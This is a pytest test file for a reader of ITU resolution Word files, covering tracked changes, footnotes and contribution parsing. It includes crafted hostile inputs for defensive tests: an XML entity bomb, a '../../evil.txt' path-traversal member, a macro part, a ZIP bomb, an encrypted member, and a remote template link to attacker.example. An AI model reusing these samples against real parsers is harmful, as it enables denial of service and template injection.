"""Word files: tracked changes give both texts, styles and footnotes are used,
and broken or hostile packages are refused before any XML is parsed."""

from __future__ import annotations

import io
import zipfile

import docx
import docx_factory as f
import pytest

from delegate_app.core.errors import InputError
from delegate_app.core.model import Contribution
from delegate_app.formats.reader import read_bytes


@pytest.fixture(scope="module")
def mod57():
    return read_bytes(f.build(f.MOD_57, f.MOD_57_NOTES), "mod57.docx")


def test_revised_text_is_what_accept_all_gives(mod57):
    res = mod57.document
    assert (res.body, res.number, res.revision) == ("WTSA", "57", "Rev. Hammamet, 2016")
    assert res.preamble == "The World Telecommunication Standardization Assembly (Hammamet, 2016),"
    noting, resolves = res.sections
    assert [p.label for p in noting.provisions] == ["a)", "c)", "d)"]
    assert noting.provisions[0].text.startswith("Resolution 191 of the Plenipotentiary Conference (Busan, 2014),")
    assert noting.provisions[2].text == "the establishment of an Intersector Coordination Task Force,"
    assert resolves.provisions[0].text == (
        "to invite the advisory groups to continue to assist in the "
        "identification of subjects common to the three Sectors;"
    )
    assert resolves.provisions[1].text == "to invite the Directors of the Bureaux to report."


def test_original_text_is_what_reject_all_gives(mod57):
    res = mod57.original
    assert res.revision == "Rev. Dubai, 2012"
    noting, resolves = res.sections
    assert [p.label for p in noting.provisions] == ["a)", "b)", "c)"]
    assert "(Guadalajara, 2010)" in noting.provisions[0].text
    assert noting.provisions[1].text == "Resolution 59 (Hyderabad, 2010) of WTDC, on strengthening coordination;"
    assert resolves.provisions[0].text == (
        "to invite the advisory groups to assist in the identification of subjects common to the three Sectors;"
    )
    assert resolves.provisions[1].text == "to invite the Directors of the Bureaux to report annually."


def test_footnotes_are_read_from_the_footnotes_part(mod57):
    item = mod57.document.sections[0].provisions[1]
    assert item.notes[0].offset == len("that there is a need to improve the participation of developing countries")
    assert mod57.document.footnotes[0].text == "These include the least developed countries."


def test_call_style_names_a_call_the_vocabulary_does_not_know():
    paras = f.MOD_57[:3] + [f.plain("strongly affirming its commitment", "Call"), f.plain("that coordination matters.")]
    res = read_bytes(f.build(paras), "styled.docx").document
    assert [s.call for s in res.sections] == ["strongly affirming its commitment"]
    assert res.sections[0].provisions[0].text == "that coordination matters."


def test_a_deleted_paragraph_mark_joins_the_next_paragraph():
    paras = f.MOD_57[:4] + [
        ("", [("", "a)\tfirst half")], "del"),
        ("", [("", " and second half;")], ""),
    ]
    read = read_bytes(f.build(paras), "joined.docx")
    assert [p.text for p in read.document.sections[0].provisions] == ["first half and second half;"]
    assert [p.text for p in read.original.sections[0].provisions] == ["first half", "and second half;"]


def test_contribution_docx_gives_each_mod_its_base():
    paras = (
        [f.plain("Document C26/89-E"), f.plain("Original: English"), f.plain("MOD\tRCC/47A4/1")]
        + f.MOD_57
        + [f.plain("Reasons:\tTo align with Resolution 191.")]
    )
    read = read_bytes(f.build(paras, f.MOD_57_NOTES), "contribution.docx")
    assert isinstance(read.document, Contribution)
    proposal = read.document.proposals[0]
    assert proposal.number == "RCC/47A4/1" and proposal.reasons == "To align with Resolution 191."
    assert proposal.resolution.revision == "Rev. Hammamet, 2016"
    assert proposal.base.revision == "Rev. Dubai, 2012"


def test_python_docx_written_file_reads():
    document = docx.Document()
    for text in [
        "RESOLUTION 18 (Rev. New Delhi, 2024)",
        "Strengthening coordination",
        "The World Telecommunication Standardization Assembly (New Delhi, 2024),",
        "recalling",
        "a)\tResolution 191 (Rev. Bucharest, 2022);",
        "resolves",
        "1\tthat the advisory groups shall meet;",
    ]:
        document.add_paragraph(text)
    buf = io.BytesIO()
    document.save(buf)
    read = read_bytes(buf.getvalue(), "plain.docx")
    assert read.original is None
    assert [s.call for s in read.document.sections] == ["recalling", "resolves"]


def _zip(members: dict[str, bytes | str], flag_encrypted=False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    data = buf.getvalue()
    if flag_encrypted:  # set the "encrypted" bit in the local and central headers
        data = data.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")
        data = data.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")
    return data


GOOD = f.build(f.MOD_57, f.MOD_57_NOTES)
ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
    f'<w:document xmlns:w="{f.W}"><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>'
)


@pytest.mark.parametrize(
    "data, message",
    [
        (b"PK\x03\x04 not really a zip", "damaged or truncated"),
        (GOOD[: len(GOOD) // 2], "damaged or truncated"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "Word 97-2003"),
        (_zip({"hello.txt": "hi"}), "not a Word document"),
        (f.build(document=ENTITY_BOMB), "declares XML entities"),
        (f.build(f.MOD_57, extra_parts={"../../evil.txt": "x"}), "unsafe path"),
        (f.build(f.MOD_57, main_type=f.MAIN_DOCM, extra_parts={"word/vbaProject.bin": b"\x00" * 10}), "macro"),
        (f.build(f.MOD_57, extra_parts={"word/media/bomb.bin": b"\x00" * (3 * 1024 * 1024)}), "ZIP bomb"),
        (f.build(document="<w:document"), "cannot be read"),
        (f.build([f.plain("Just a letter to a colleague.")]), "not an ITU resolution"),
    ],
)
def test_broken_and_hostile_word_files_are_refused(data, message):
    with pytest.raises(InputError) as info:
        read_bytes(data, "hostile.docx")
    assert message in str(info.value) and "hostile.docx" in str(info.value)


def test_encrypted_member_is_refused():
    data = _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>"}, flag_encrypted=True)
    with pytest.raises(InputError, match="encrypted"):
        read_bytes(data, "locked.docx")


def test_remote_template_is_reported_and_never_fetched():
    rel = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )
    read = read_bytes(f.build(f.MOD_57, doc_rels_extra=rel), "template.docx")
    assert any("attachedTemplate" in w and "not fetched" in w for w in read.warnings)


def test_an_itu_publication_with_cover_foreword_and_an_empty_heading_paragraph():
    """ITU's own Word files of a resolution: a cover page, a FOREWORD and the
    copyright, then an EMPTY Res_No paragraph (a section break), then the real
    heading. The empty styled paragraph is not the heading, and the front matter
    is not the title or the preamble."""
    paras = [
        *f.ITU_PUBLICATION_HEAD,
        f.plain("b)\tthat working methods need to be stated;"),
        f.plain("resolves", "Call"),
        f.plain("1\tthat these rules of procedure apply."),
    ]
    res = read_bytes(f.build(paras), "itu-t-res1.docx").document
    assert (res.number, res.revision) == ("1", "Rev. Hammamet, 2016")
    assert res.title == "Rules of procedure of the ITU Telecommunication Standardization Sector (ITU-T)"
    assert res.history.startswith("(Malaga-Torremolinos, 1984")
    assert [s.call for s in res.sections] == ["considering", "resolves"]
    assert [p.label for p in res.sections[0].provisions] == ["a)", "b)"]


def test_the_history_line_keeps_its_footnote_marks_custom_ones_too(tmp_path):
    """ITU's history line "(Hammamet, 2016)1, 1bis": the line is the history, not
    part of the title; both notes are kept, "1bis" with its own mark, and written
    back after the history line (in Word and in the text export)."""
    from delegate_app.formats.docx_writer import contribution_docx, mod_contribution
    from delegate_app.formats.text_writer import resolution_text

    history = (
        "",
        [("", "(Malaga-Torremolinos, 1984; Hammamet, 2016)"), ("note", 1), ("", ", "), ("cnote", (2, "1bis"))],
        "",
    )
    for style in ("Resref", ""):  # styled as ITU does, or plain
        paras = [
            f.plain("RESOLUTION 1 (Rev. Hammamet, 2016)", "ResNo"),
            f.plain("Rules of procedure of the ITU Telecommunication Standardization Sector (ITU-T)", "Restitle"),
            (style, history[1], ""),
            f.plain("The World Telecommunication Standardization Assembly (Hammamet, 2016),", "Normalaftertitle"),
            f.plain("considering", "Call"),
            f.plain("a)\tthat one;"),
        ]
        res = read_bytes(f.build(paras, {1: "The first note.", 2: ("1bis", "A note added later.")}), "h.docx").document
        assert res.title == "Rules of procedure of the ITU Telecommunication Standardization Sector (ITU-T)"
        assert res.history == "(Malaga-Torremolinos, 1984; Hammamet, 2016)"
        assert [(n.text, n.mark) for n in res.footnotes] == [("The first note.", ""), ("A note added later.", "1bis")]
        assert [n.footnote for n in res.history_notes] == [n.number for n in res.footnotes]
    assert "(Malaga-Torremolinos, 1984; Hammamet, 2016)[footnoteRef:1][footnoteRef:2]" in resolution_text(res)
    data, _ = contribution_docx(mod_contribution(res, res, number="ABC/1/1"))
    back = read_bytes(data, "back.docx").document.proposals[0].resolution
    assert back.history == res.history and [(n.text, n.mark) for n in back.footnotes] == [
        ("The first note.", ""),
        ("A note added later.", "1bis"),
    ]
    assert len(back.history_notes) == 2


def test_footnotes_are_numbered_as_word_numbers_them_not_by_their_xml_id():
    """LibreOffice saves its first footnote with id 2, and ids need not follow the
    text's order: Word numbers its notes by where they are referenced, and a note
    with a custom mark ("1bis") takes no number."""
    paras = [
        f.plain("RESOLUTION 1 (Rev. Hammamet, 2016)", "ResNo"),
        f.plain("Rules of procedure", "Restitle"),
        f.plain("The World Telecommunication Standardization Assembly (Hammamet, 2016),", "Normalaftertitle"),
        f.plain("considering", "Call"),
        ("", [("", "a)\tthat developing countries"), ("note", 7), ("", " need help;")], ""),
        ("", [("", "b)\tthat a later note"), ("cnote", (3, "1bis")), ("", " was added;")], ""),
        ("", [("", "c)\tthat the last"), ("note", 2), ("", " is so.")], ""),
    ]
    notes = {2: "The second note.", 3: ("1bis", "A note added later."), 7: "The first note."}
    res = read_bytes(f.build(paras, notes), "lo.docx").document
    shown = [(n.mark or str(n.number), n.text) for n in res.footnotes]
    assert shown == [("1", "The first note."), ("1bis", "A note added later."), ("2", "The second note.")]
    by_number = {n.number: n for n in res.footnotes}
    cited = [[by_number[r.footnote].text for r in p.notes] for p in res.sections[0].provisions]
    assert cited == [["The first note."], ["A note added later."], ["The second note."]]
